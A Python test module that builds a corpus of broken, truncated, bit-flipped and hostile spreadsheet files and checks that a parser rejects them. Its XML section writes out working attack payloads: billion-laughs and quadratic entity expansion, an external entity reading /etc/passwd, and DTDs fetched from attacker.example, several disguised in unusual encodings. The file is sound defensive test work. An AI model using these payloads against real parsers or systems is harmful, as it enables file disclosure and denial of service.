"""Files that are cut off, changed, or whose XML is an attack."""

from __future__ import annotations

import random
from collections.abc import Iterator

from tests.corpus import cfb
from tests.corpus.case import ANY, READ, Case, one, prefixed, sheet
from tests.corpus.zips import edited

FLIPS = 200


def broken(good: bytes) -> Iterator[Case]:
    yield one("broken/empty.xlsx", b"", "rejected", "file-empty")
    yield one("broken/one byte.xlsx", b"P", "held", "not-a-workbook")
    yield one("broken/zeros.xlsx", bytes(5000), "rejected", "file-unknown")
    yield one("broken/noise.xlsx", random.Random(1).randbytes(5000), "rejected", "file-unknown")
    yield one("broken/only a zip beginning.xlsx", b"PK\3\4" + bytes(100), "rejected", "file-damaged")
    yield one(
        "broken/only an ole beginning.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "rejected", "file-damaged"
    )
    noise = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(2).randbytes(9000)
    yield one("broken/ole of noise.xls", noise, "rejected", "file-damaged")
    yield one("broken/no book.xlsx", edited(good, book=None), "rejected", "file-damaged")
    yield one("broken/no rels.xlsx", edited(good, rels=None), "rejected", "file-damaged")
    yield one("broken/no types.xlsx", edited(good, types=None), READ)
    yield one("broken/no sheet2.xlsx", edited(good, sheet2=None), "rejected", "file-damaged")
    yield one("broken/empty sheet.xlsx", edited(good, sheet3=b""), "rejected", "file-damaged")
    yield one(
        "broken/sheet of noise.xlsx", edited(good, sheet3=b"\xff\xfe<<>>&&"), "rejected", "file-damaged"
    )
    yield one("broken/book of text.xlsx", edited(good, book=b"hello"), "rejected", "file-damaged")
    yield one("broken/strings gone.xlsx", edited(good, strings=None), "rejected", "file-damaged")
    half = edited(good, sheet3=lambda data: data[: len(data) // 2])
    yield one("broken/half a sheet.xlsx", half, "rejected", "file-damaged")
    yield one("broken/twice.xlsx", good + good, READ)
    yield one("broken/text before.xlsx", b"MIME junk\r\n" + good, "rejected", "file-unknown")
    yield one("broken/text after.xlsx", good + b"\r\n--boundary--\r\n", READ)
    yield one("broken/much after.xlsx", good + bytes(70_000), "rejected", "file-damaged")


def truncated(good: bytes) -> Iterator[Case]:
    for share in range(5, 100, 5):
        yield one(f"cut/{share} percent.xlsx", good[: len(good) * share // 100], "rejected", "file-damaged")
    old = cfb.xls({"A": [["x" * 50, 1.0]] * 60})
    for share in range(20, 100, 20):
        yield one(f"cut/{share} percent.xls", old[: len(old) * share // 100], frozenset({"rejected", "held"}))


def flipped(good: bytes) -> Iterator[Case]:
    for seed in range(FLIPS):
        chance = random.Random(seed)
        data = bytearray(good)
        for _ in range(chance.choice((1, 1, 3, 20))):
            data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        yield one(f"flips/{seed:03}.xlsx", bytes(data), ANY)


def xml_attacks(good: bytes) -> Iterator[Case]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctypes = {
        "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>',
        "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "external dtd": '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]>',
        "empty doctype": "<!DOCTYPE x>",
        "lower case": "<!doctype x>",
        "entity alone": '<!ENTITY a "b">',
        "quadratic": f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>',
    }
    for name, doctype in doctypes.items():
        for part in ("sheet3", "strings", "book"):
            data = edited(good, **{part: lambda d, t=doctype: prefixed(d, t.encode())})
            yield one(f"xml/{name} in {part}.xlsx", data, "rejected", "file-unsafe")
    for encoding in ("utf-16", "utf-16-le", "utf-32"):
        text = f'<?xml version="1.0" encoding="{encoding}"?>{doctypes["external entity"]}<worksheet/>'
        data = edited(good, sheet3=text.encode(encoding))
        yield one(f"xml/doctype in {encoding}.xlsx", data, "rejected", "file-unsafe")
    ebcdic = b'<?xml version="1.0" encoding="cp037"?>' + doctypes["external entity"].encode("cp037")
    yield one("xml/doctype in ebcdic.xlsx", edited(good, sheet3=ebcdic), "rejected", "file-unsafe")
    utf7 = edited(good, sheet3=b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE x+AD4-<worksheet/>')
    yield one("xml/doctype in utf-7.xlsx", utf7, "rejected", "file-unsafe")
    rels = edited(good, rels=lambda d: prefixed(d, doctypes["external dtd"].encode()))
    yield one("xml/doctype in rels.xlsx", rels, "rejected", "file-unsafe")
    deep = "<a>" * 100_000 + "</a>" * 100_000
    yield one("xml/deep.xlsx", edited(good, sheet3=sheet("", deep)), ANY)
    in_row = '<row r="1"><c r="A1" t="e"><v>#REF!</v></c></row>'
    yield one("xml/deep with error.xlsx", edited(good, sheet3=sheet(in_row, deep)), "rejected", "file-unsafe")
    unclosed = edited(good, sheet3=sheet('<row r="1"><c r="A1" t="e">' + "<v>" * 300_000))
    yield one("xml/unclosed.xlsx", unclosed, "rejected", "file-unsafe", "file-damaged")
    control = edited(
        good, sheet3=sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>\x01\x1b[31m</t></is></c></row>')
    )
    yield one("xml/control characters.xlsx", control, ANY)
    halves = '<row r="1"><c r="A1" t="inlineStr"><is><t>&#xD800; \ud83d</t></is></c></row>'
    yield one("xml/half characters.xlsx", edited(good, sheet3=sheet(halves)), ANY)
    zeros = edited(good, sheet3=lambda d: d.replace(b"<sheetData>", b"<sheetData>\0"))
    yield one("xml/zero byte.xlsx", zeros, "rejected", "file-unsafe")
    comment = edited(good, sheet3=lambda d: d.replace(b"<sheetData>", b"<!-- <!DOCTYPE x> --><sheetData>"))
    yield one("xml/doctype in a comment.xlsx", comment, "rejected", "file-unsafe")
    attribute = " ".join(f'a{n}="{n}"' for n in range(100_000))
    many = edited(good, sheet3=sheet(f'<row r="1"><c r="A1" {attribute}><v>1</v></c></row>'))
    yield one("xml/100,000 attributes.xlsx", many, ANY)
